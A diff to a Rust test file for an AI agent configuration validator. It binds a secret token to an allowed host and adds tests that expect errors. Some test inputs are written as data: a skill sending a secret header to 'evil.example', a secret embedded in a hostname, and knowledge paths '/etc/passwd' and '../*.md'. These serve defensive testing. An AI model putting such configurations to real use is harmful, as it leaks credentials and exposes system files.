@@ -1,7 +1,11 @@
 use crate::agent::validate::*;
 use serde_json::json;
 
-const ALLOWED: &[&str] = &["ORDERS_TOKEN"];
+const ALLOWED: &[&str] = &["ORDERS_TOKEN@api.example.com"];
+
+fn allowed() -> AllowedSecrets {
+    AllowedSecrets::read(&ALLOWED.iter().map(|entry| (*entry).to_owned()).collect::<Vec<_>>(), false).0
+}
 
 fn base() -> Value {
     json!({
@@ -21,13 +25,13 @@ fn base() -> Value {
 
 fn report(document: &Value) -> Report {
     let config = crate::agent::load::typed(document).unwrap();
-    let allow: Vec<String> = ALLOWED.iter().map(|name| (*name).to_owned()).collect();
+    let allow = allowed();
     let flows = ["parallel_analysis".to_owned()];
     let models = ["fast".to_owned()];
     let functions = ["registered".to_owned()];
     let context = Context {
         known_flows: Some(&flows),
-        secrets_allow: &allow,
+        secrets: Some(&allow),
         models: &models,
         functions: &functions,
         private: None,
@@ -56,7 +60,9 @@ fn a_sound_agent_has_no_findings() {
     assert_eq!(after("/model", json!(["fast", "default", "offline"])), "");
     assert_eq!(after("/budget", json!({"turn": 1, "session": 2, "day": 0})), "");
     assert_eq!(after("/tools/0", json!({"id": "registered"})), "");
-    assert_eq!(after("/skills/0/http/url", json!("${ORDERS_TOKEN}/orders/{order_id}")), "");
+    assert_eq!(after("/skills/0/http/url", json!("https://api.example.com/${ORDERS_TOKEN}/{order_id}")), "");
+    let of_session = json!({"a": "{session.id}", "b": "{session.user_id}", "c": "{session.channel}"});
+    assert_eq!(after("/skills/0/http/query", of_session), "");
     assert!(report(&json!({"id": "task", "system_prompt": "Summarise."})).is_ok());
 }
 
@@ -80,6 +86,42 @@ fn what_cannot_work_is_an_error_that_names_place_and_remedy() {
         ("/skills/0/params", json!({"type": "objekt"}), vec!["error: skills[0].params.type: ", "objekt"]),
         ("/skills/0/http/url", json!("api/{order_id}"), vec!["error: skills[0].http.url: ", "`api/{order_id}`"]),
         ("/skills/0/http/url", json!("ftp://x/{order_id}"), vec!["error: skills[0].http.url: ", "`ftp`"]),
+        (
+            "/skills/0/http/url",
+            json!("https://evil.example/orders/{order_id}"),
+            vec![
+                "error: skills[0].http.headers.Authorization: ",
+                "`${ORDERS_TOKEN}`",
+                "`evil.example`",
+                "`secrets.allow` binds it to `api.example.com`",
+            ],
+        ),
+        (
+            "/skills/0/http/url",
+            json!("https://${ORDERS_TOKEN}.example.com/{order_id}"),
+            vec!["error: skills[0].http.url: ", "`${ORDERS_TOKEN}` stands before the path"],
+        ),
+        (
+            "/skills/0/http/url",
+            json!("${ORDERS_TOKEN}/orders/{order_id}"),
+            vec!["error: skills[0].http.url: ", "`${ORDERS_TOKEN}` stands before the path"],
+        ),
+        (
+            "/skills/0/http/query",
+            json!({"u": ["{session.user}"]}),
+            vec!["error: skills[0].http.query.u[0]: ", "no `{session.user}`", "did you mean `session.user_id`?"],
+        ),
+        (
+            "/handoff",
+            json!({"http": {"url": "https://api.example.com/{session.x}"}}),
+            vec!["error: handoff.http.url: ", "no `{session.x}`"],
+        ),
+        (
+            "/knowledge",
+            json!({"files": ["kb/a.md", "/etc/passwd"]}),
+            vec!["error: knowledge.files[1]: ", "absolute path"],
+        ),
+        ("/knowledge", json!({"files": ["../*.md"]}), vec!["error: knowledge.files[0]: ", "leaves the folder"]),
         ("/skills/0/http/method", json!("GTE"), vec!["error: skills[0].http.method: ", "did you mean `GET`?"]),
         ("/skills/0/http/headers", json!({"a b": "x"}), vec!["error: skills[0].http.headers: ", "`a b`"]),
         (
@@ -182,7 +224,7 @@ fn what_is_probably_a_mistake_is_a_warning() {
         ("/skills/0/http", Value::Null, vec!["warning: skills[0]: ", "registered in Rust"]),
         (
             "/skills/0/http/url",
-            json!("https://x/{oder_id}"),
+            json!("https://api.example.com/{oder_id}"),
             vec!["warning: skills[0].http.url: ", "did you mean `order_id`?"],
         ),
         (
@@ -227,14 +269,15 @@ fn flows_that_are_not_known_here_are_not_judged() {
     let mut document = base();
     document["flows"] = json!(["anything"]);
     let config = crate::agent::load::typed(&document).unwrap();
-    let allow = ["ORDERS_TOKEN".to_owned()];
-    let report = validate(&config, &document, Context { secrets_allow: &allow, ..Context::default() });
+    let report = validate(&config, &document, Context { secrets: Some(&allowed()), ..Context::default() });
     assert_eq!(report, Report::default());
 }
 
 #[test]
 fn what_is_wrong_is_found_by_line_and_column() {
-    let known = KnownNames::new(&Settings::default(), vec!["parallel_analysis".into()]);
+    let mut settings = Settings::default();
+    settings.secrets.allow = vec!["K@api.example.com".into()];
+    let known = KnownNames::new(&settings, vec!["parallel_analysis".into()]);
     let told = |name: &str, text: &str| {
         let checked = crate::agent::load::text(name.as_ref(), text).and_then(|agent| known.check(agent));
         match checked {
@@ -288,6 +331,14 @@ fn what_is_wrong_is_found_by_line_and_column() {
             "line 5, column 31: coordinator.secrets[0].hosts[0]: `a.b:80` is no host; write a host such as `api.example.com`, or `*.example.com` for its subdomains",
         ),
         (
+            "id: a\nsop: x\nskills:\n  - id: s\n    http: {url: 'https://evil.example/', headers: {X-Key: '${K}'}}\n",
+            "line 5, column 59: skills[0].http.headers.X-Key: the secret `${K}` may not be sent to `evil.example`: the setting `secrets.allow` binds it to `api.example.com`; call a host that it is for, or add `K@evil.example` to the setting (TURNWHEEL_SECRETS__ALLOW)",
+        ),
+        (
+            "id: a\nsop: x\nmode: coordinator\ncoordinator:\n  secrets: [{name: K, hosts: [api.example.com, '*.example.com']}]\n",
+            "line 5, column 48: coordinator.secrets[0].hosts[1]: the secret `${K}` may not be sent to `any.example.com`: the setting `secrets.allow` binds it to `api.example.com`; add the host there, else the secret is not sent to it",
+        ),
+        (
             "id: a\nsop: x\nmode: coordinator\nsubagents:\n  - {type: r, runnable: r}\n  - {type: r, runnable: s}\n",
             "line 6, column 12: subagents[1].type: `r` is the type of another sub-agent; give it another",
         ),
@@ -315,7 +366,7 @@ fn a_private_host_that_workers_may_not_call_is_warned_of() {
         assert!(!warned(&KnownNames::default(), url), "not known here: {url}");
         assert!(!warned(&KnownNames::default().with_private(["*".to_owned()]), url), "{url}");
     }
-    for url in ["http://10.1.2.3/x", "https://api.example.com/x", "${BASE}/x"] {
+    for url in ["http://10.1.2.3/x", "https://api.example.com/x", "https://api.example.com/${BASE}/x"] {
         let known = some.clone().with_secrets(["BASE".to_owned()]);
         assert!(!warned(&known, url), "{url}");
     }
